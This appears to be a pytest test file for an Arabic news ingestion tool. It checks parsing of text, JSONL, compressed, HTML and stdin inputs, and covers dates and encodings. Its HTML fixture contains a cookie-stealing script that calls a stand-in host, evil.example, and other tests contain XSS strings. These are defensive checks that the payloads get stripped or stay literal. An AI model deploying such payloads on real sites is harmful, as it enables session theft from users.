import bz2
from html import escape
import gzip
import io
import json
from datetime import date
from pathlib import Path

import pytest

from marsad.ingest import (
    Article,
    Skip,
    article_id,
    clean_text,
    parse_date,
    parse_date_line,
    parse_page,
    read_inputs,
)

SHARED = Path(__file__).resolve().parents[2] / "shared"
SAMPLE = SHARED / "samples" / "haftar-us-support-2019-04-21.txt"
SEED = SHARED / "gold" / "seed.jsonl"
CORPUS = SHARED / "corpus" / "arabic_political_news.jsonl"
DEMO = Path(__file__).resolve().parents[1] / "src" / "marsad" / "demo"


def corpus_records(n: int) -> list[dict]:
    out = []
    with open(CORPUS, encoding="utf-8") as f:
        for line in f:
            out.append(json.loads(line))
            if len(out) == n:
                break
    return out


def articles(items):
    return [x for x in items if isinstance(x, Article)]


def skips(items):
    return [x for x in items if isinstance(x, Skip)]


def one(paths, **kw):
    items = list(read_inputs([str(p) for p in paths], **kw))
    assert len(items) == 1, items
    return items[0]


# --- page dumps -------------------------------------------------------------------------------

def test_sample_page_dump():
    a = one([SAMPLE])
    assert isinstance(a, Article)
    assert a.title == "هل تلقى حفتر دعماً أميركياً؟"
    assert a.published == date(2019, 4, 21)
    assert a.text.startswith("لا تزال حملة")
    assert "+ الخط -" not in a.text
    assert "فرانس برس" not in a.text and "محمود تركية" not in a.text
    assert "(محمود تركية/ فرانس برس)" in a.extra["caption"]
    assert "\n\n" not in a.text and "  " not in a.text
    assert a.text.endswith("لتحرير غريان.")
    assert a.path == str(SAMPLE)


def test_sample_matches_gold_seed_text_and_id():
    page = one([SAMPLE])
    seed = one([SEED])
    assert seed.source_id == "seed-haftar-2019-04-21"
    assert seed.published == date(2019, 4, 21)
    assert seed.path == f"{SEED}:1"
    assert "events" in seed.extra and "text" not in seed.extra
    assert page.text == seed.text
    assert page.id == seed.id == article_id(seed.text)


def test_page_with_date_first_maghrebi_month_and_furniture():
    raw = (
        "الأحد 5 جوان 2021\n"
        "نشر في: 10:30\n"
        "مقتل جنديين في هجوم على نقطة تفتيش\n"
        "شارك هذا المقال\n"
        "A A\n"
        "قُتل جنديان وأصيب ثالث في هجوم مسلح استهدف نقطة تفتيش جنوب المدينة، وفق بيان للداخلية.\n"
        "اقرأ أيضاً: الداخلية تعلن حالة الطوارئ\n"
        "https://example.org/a/1\n"
        "وقال المتحدث باسم الوزارة إن التحقيقات جارية.\n"
        "الكلمات الدالة: ليبيا، هجوم\n"
    )
    p = parse_page(raw)
    assert p.title == "مقتل جنديين في هجوم على نقطة تفتيش"
    assert p.published == date(2021, 6, 5)
    assert p.body == [
        "قُتل جنديان وأصيب ثالث في هجوم مسلح استهدف نقطة تفتيش جنوب المدينة، وفق بيان للداخلية.",
        "وقال المتحدث باسم الوزارة إن التحقيقات جارية.",
    ]


def test_page_without_header_is_all_body():
    raw = "\n".join(r["text"] for r in corpus_records(1))
    p = parse_page(raw)
    assert p.title is None and p.published is None
    assert p.text == clean_text(raw)


@pytest.mark.parametrize("line,expected", [
    ("21 ابريل 2019", date(2019, 4, 21)),
    ("4 إبريل/ نيسان 2019", date(2019, 4, 4)),
    ("الثلاثاء 7 آذار 2023 - 10:45", date(2023, 3, 7)),
    ("١٢ تموز ٢٠٢٠", date(2020, 7, 12)),
    ("3 جويلية 2019", date(2019, 7, 3)),
    ("9 شتنبر 2018", date(2018, 9, 9)),
    ("1 تشرين الثاني 2015", date(2015, 11, 1)),
    ("آخر تحديث: 2023-06-14 09:00", date(2023, 6, 14)),
    ("05/11/2022", date(2022, 11, 5)),
    ("31/02/2022", None),
    ("قال الوزير في 21 ابريل 2019 إن الحرب ستنتهي قريباً وإن الحل سياسي", None),
])
def test_date_lines(line, expected):
    assert parse_date_line(line) == expected


def test_parse_date_values():
    assert parse_date("2018-05-01T10:22:00Z") == date(2018, 5, 1)
    assert parse_date("نشر بتاريخ 14 أكتوبر 2018") == date(2018, 10, 14)
    assert parse_date("yesterday") is None


# --- JSON lines and JSON ----------------------------------------------------------------------

def test_jsonl_bad_lines_are_skipped_and_others_come_through(tmp_path):
    recs = corpus_records(3)
    lines = [json.dumps(recs[0], ensure_ascii=False),
             '{"id": "broken", "text": "نص بلا نهاية',
             json.dumps(recs[1], ensure_ascii=False),
             "",
             json.dumps({"id": "no-text", "title": "عنوان بلا نص"}, ensure_ascii=False),
             json.dumps({"id": "blank", "text": " \u200f \n "}, ensure_ascii=False),
             json.dumps(recs[2], ensure_ascii=False)]
    f = tmp_path / "feed.jsonl"
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    items = list(read_inputs([str(f)]))
    arts, bad = articles(items), skips(items)
    assert [a.source_id for a in arts] == [r["id"] for r in recs]
    assert [a.path for a in arts] == [f"{f}:1", f"{f}:3", f"{f}:7"]
    assert [(s.path, s.reason.split(":")[0]) for s in bad] == [
        (f"{f}:2", "malformed JSON"), (f"{f}:5", "no text"), (f"{f}:6", "empty text")]
    a = arts[0]
    assert a.title == recs[0]["title"] and a.url == recs[0]["url"]
    assert a.source == recs[0]["outlet"]
    assert a.published == date.fromisoformat(recs[0]["date"])
    assert a.extra["source_repo"] == recs[0]["source_repo"] and "outlet" not in a.extra
    assert str(bad[0]).startswith(f"{f}:2: malformed JSON")


def test_compressed_jsonl_and_json_array(tmp_path):
    recs = corpus_records(4)
    body = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs).encode("utf-8")
    (tmp_path / "a.jsonl.gz").write_bytes(gzip.compress(body))
    (tmp_path / "b.jsonl.bz2").write_bytes(bz2.compress(body))
    (tmp_path / "c.json").write_text(json.dumps(recs[:2] + [42], ensure_ascii=False), encoding="utf-8")
    (tmp_path / "d.jsonl.gz").write_bytes(gzip.compress(body)[:-30])  # truncated archive
    got = {}
    for name in ("a.jsonl.gz", "b.jsonl.bz2", "c.json", "d.jsonl.gz"):
        got[name] = list(read_inputs([str(tmp_path / name)]))
    assert [a.source_id for a in got["a.jsonl.gz"]] == [r["id"] for r in recs]
    assert [a.text for a in got["b.jsonl.bz2"]] == [a.text for a in got["a.jsonl.gz"]]
    c = got["c.json"]
    assert [a.source_id for a in articles(c)] == [recs[0]["id"], recs[1]["id"]]
    assert skips(c)[0].path.endswith("c.json[2]")
    d = got["d.jsonl.gz"]
    assert skips(d) and "error" in skips(d)[-1].reason


def test_hostile_markup_in_a_text_field_stays_literal(tmp_path):
    text = 'قال المتحدث: <script>alert("x")</script> لن نتراجع <img src=x onerror=alert(1)>'
    f = tmp_path / "h.jsonl"
    f.write_text(json.dumps({"text": text}, ensure_ascii=False) + "\n", encoding="utf-8")
    a = one([f])
    assert a.text == text
    assert a.source_id is None and a.title is None and a.published is None


def test_oversized_article_is_skipped_and_reading_goes_on(tmp_path):
    recs = corpus_records(2)
    big = {"id": "big", "text": "كلمة " * 5000}
    f = tmp_path / "big.jsonl"
    f.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in (recs[0], big, recs[1])) + "\n",
                 encoding="utf-8")
    items = list(read_inputs([str(f)], max_bytes=20000))
    assert [a.source_id for a in articles(items)] == [recs[0]["id"], recs[1]["id"]]
    assert skips(items) == [Skip(f"{f}:2", "too large (> 0.0 MB)")]
    page = tmp_path / "big.txt"
    page.write_text("عنوان\n" + "كلمة " * 5000, encoding="utf-8")
    s = one([page], max_bytes=20000)
    assert isinstance(s, Skip) and s.reason.startswith("too large")


# --- bad files --------------------------------------------------------------------------------

def test_empty_binary_unknown_and_missing_files(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "blank.jsonl").write_text("\n  \n", encoding="utf-8")
    (tmp_path / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    (tmp_path / "notes.docx").write_bytes(b"PK\x03\x04")
    (tmp_path / "latin.txt").write_bytes("Déclaration du ministère à propos de la trêve".encode("latin-1"))
    reasons = {}
    for name in ("empty.txt", "blank.jsonl", "image.txt", "notes.docx", "latin.txt", "missing.txt"):
        item = one([tmp_path / name])
        assert isinstance(item, Skip), name
        reasons[name] = item.reason
    assert reasons["empty.txt"] == "empty file"
    assert reasons["blank.jsonl"] == "empty file"
    assert reasons["image.txt"].startswith("binary file")
    assert reasons["notes.docx"] == "unknown extension '.docx'"
    assert reasons["latin.txt"].startswith("undecodable")
    assert reasons["missing.txt"] == "not found"


def test_cp1256_and_utf16_files(tmp_path):
    raw = SAMPLE.read_text(encoding="utf-8")
    expected = one([SAMPLE])
    (tmp_path / "win.txt").write_bytes(raw.encode("cp1256"))
    (tmp_path / "u16.txt").write_bytes(raw.encode("utf-16"))  # with BOM
    (tmp_path / "sig.txt").write_bytes(raw.encode("utf-8-sig"))
    rec = corpus_records(1)[0]
    (tmp_path / "u16.jsonl").write_bytes((json.dumps(rec, ensure_ascii=False) + "\n").encode("utf-16"))
    for name in ("win.txt", "u16.txt", "sig.txt"):
        a = one([tmp_path / name])
        assert isinstance(a, Article), (name, a)
        assert a.title == expected.title and a.published == expected.published
        assert a.text == expected.text and a.id == expected.id
    j = one([tmp_path / "u16.jsonl"])
    assert isinstance(j, Article) and j.source_id == rec["id"] and j.text == clean_text(rec["text"])


# --- HTML -------------------------------------------------------------------------------------

def _html_page(rec: dict) -> str:
    paras = "".join(f"<p>{escape(p)}</p>\n" for p in rec["text"].split("\n") if p.strip())
    title = escape(rec["title"])
    return f"""<!DOCTYPE html>
<html lang="ar" dir="rtl"><head><meta charset="utf-8">
<title>{title} | موقع الأخبار</title>
<meta property="og:title" content="{title}">
<meta property="og:site_name" content="موقع الأخبار">
<meta property="article:published_time" content="{rec['date']}T08:15:00+00:00">
<link rel="canonical" href="https://news.example.org/2018/article-17">
<script>document.location = "https://evil.example/steal?c=" + document.cookie;</script>
</head><body>
<nav><ul><li><a href="/">الرئيسية</a></li><li><a href="/world">العالم</a></li></ul></nav>
<article><h1>{title}</h1>
<div class="share"><a>شارك</a> <a>تغريد</a> <a>طباعة</a></div>
{paras}<p>&lt;script&gt;steal()&lt;/script&gt;</p>
</article>
<footer><p>جميع الحقوق محفوظة لموقع الأخبار 2018</p></footer>
<script>alert("x")</script></body></html>"""


def test_html_page_from_corpus_article(tmp_path):
    rec = next(r for r in corpus_records(40) if len(r["text"]) > 800)
    f = tmp_path / "page.html"
    f.write_text(_html_page(rec), encoding="utf-8")
    a = one([f])
    assert isinstance(a, Article), a
    assert a.title == rec["title"]
    assert a.published == date.fromisoformat(rec["date"])
    assert a.source == "موقع الأخبار"
    assert a.url == "https://news.example.org/2018/article-17"
    first_para = clean_text(rec["text"]).split("\n")[0]
    assert a.text.startswith(first_para[:60])
    for junk in ("document.cookie", "alert", "<script", "الرئيسية", "جميع الحقوق", "تغريد"):
        assert junk not in a.text, junk
    assert not a.text.startswith(rec["title"])
    win = tmp_path / "page-win.htm"
    win.write_bytes(_html_page(rec).replace('charset="utf-8"', 'charset="windows-1256"')
                    .encode("cp1256", errors="ignore"))
    b = one([win])
    assert isinstance(b, Article) and b.title == rec["title"]


# --- directories and stdin --------------------------------------------------------------------

def test_directory_walk_is_recursive_sorted_and_by_extension(tmp_path):
    rec = corpus_records(2)
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "deep").mkdir()
    (tmp_path / ".hidden").mkdir()
    (tmp_path / "a.txt").write_text(SAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "b" / "x.jsonl").write_text(json.dumps(rec[0], ensure_ascii=False) + "\n", encoding="utf-8")
    (tmp_path / "b" / "deep" / "y.html").write_text(_html_page(rec[1]), encoding="utf-8")
    (tmp_path / "b" / "photo.jpg").write_bytes(b"\xff\xd8\xff\x00")
    (tmp_path / "c.txt").write_bytes(b"")
    (tmp_path / ".hidden" / "z.txt").write_text("نص مخفي طويل بما يكفي ليكون فقرة من الخبر.", encoding="utf-8")
    items = list(read_inputs([str(tmp_path)]))
    assert [Path(x.path.split(":")[0]).relative_to(tmp_path).as_posix() for x in items] == [
        "a.txt", "b/deep/y.html", "b/x.jsonl", "c.txt"]
    assert [type(x).__name__ for x in items] == ["Article", "Article", "Article", "Skip"]
    empty = tmp_path / "nothing"
    empty.mkdir()
    assert list(read_inputs([str(empty)])) == [Skip(str(empty), "no readable files in directory")]


def test_stdin_sniffs_jsonl_html_and_text():
    recs = corpus_records(2)
    jsonl = "\n\n" + "\n".join(json.dumps(r, ensure_ascii=False) for r in recs) + "\nnot json\n"
    items = list(read_inputs(["-"], stdin=io.StringIO(jsonl)))
    assert [a.source_id for a in articles(items)] == [r["id"] for r in recs]
    assert skips(items)[0].path == "<stdin>:5"
    html = one(["-"], stdin=io.BytesIO(_html_page(recs[0]).encode("utf-8")))
    assert html.title == recs[0]["title"] and html.path == "<stdin>"
    page = one(["-"], stdin=io.BytesIO(SAMPLE.read_bytes()))
    assert page.title == "هل تلقى حفتر دعماً أميركياً؟" and page.text == one([SAMPLE]).text
    assert one(["-"], stdin=io.BytesIO(b"  \n")) == Skip("<stdin>", "empty input")


def test_published_argument_overrides_and_fills():
    d = date(2020, 1, 2)
    assert one([SAMPLE], published=d).published == d
    a = one(["-"], stdin=io.StringIO("وقال المتحدث باسم الحكومة إن المفاوضات ستستأنف الأسبوع المقبل في جنيف."),
            published=d)
    assert a.published == d and a.title is None


# --- ids --------------------------------------------------------------------------------------

def test_id_is_stable_and_ignores_outer_whitespace_and_invisible_marks(tmp_path):
    text = corpus_records(1)[0]["text"]
    variants = [text, "  \n" + text + "\n\n  ", "\ufeff" + text.replace("\n", "\r\n"),
                "\u200f" + text.replace("\n", "\n\n")]
    for i, v in enumerate(variants):
        (tmp_path / f"v{i}.jsonl").write_text(json.dumps({"text": v}, ensure_ascii=False) + "\n", encoding="utf-8")
    ids = {one([tmp_path / f"v{i}.jsonl"]).id for i in range(len(variants))}
    assert len(ids) == 1
    assert ids == {article_id(clean_text(text))}
    other = one(["-"], stdin=io.StringIO(json.dumps({"text": text + " إضافة"}, ensure_ascii=False)))
    assert other.id not in ids
    assert len(other.id) == 16 and int(other.id, 16) >= 0


def test_storage_normalisation_keeps_letters_as_written():
    raw = "أعلنت\u200c الأمم\u00a0\u00a0المتحدة\tأن «الهدنة» صامدة\u0007.\r\nإلى اللقاء"
    assert clean_text(raw) == "أعلنت الأمم المتحدة أن «الهدنة» صامدة.\nإلى اللقاء"
    decomposed = "ا\u0653لية"  # alef + combining madda → آ after NFC
    assert clean_text(decomposed) == "آلية"


# --- bundled demo -----------------------------------------------------------------------------

def test_demo_articles():
    items = list(read_inputs([str(DEMO)]))
    assert not skips(items)
    assert 4 <= len(items) <= 6
    for a in items:
        assert a.title and a.published and len(a.text) > 300
        lines = a.text.split("\n")
        assert not {"+ الخط -", "شارك", "طباعة", "تغريد", "حجم الخط", "A A", "واتساب"} & set(lines)
        assert not any(ln.startswith(("http", "اقرأ أيضاً", "شارك")) for ln in lines), a.path
        assert "مواضيع ذات صلة" not in a.text and "(" not in lines[0]
    pages = [a for a in items if a.path.endswith(".txt")]
    assert {a.published for a in pages} == {date(2024, 4, 14), date(2023, 3, 7), date(2023, 6, 14),
                                            date(2022, 11, 5)}
    assert sum(1 for a in pages if "caption" in a.extra) == 3
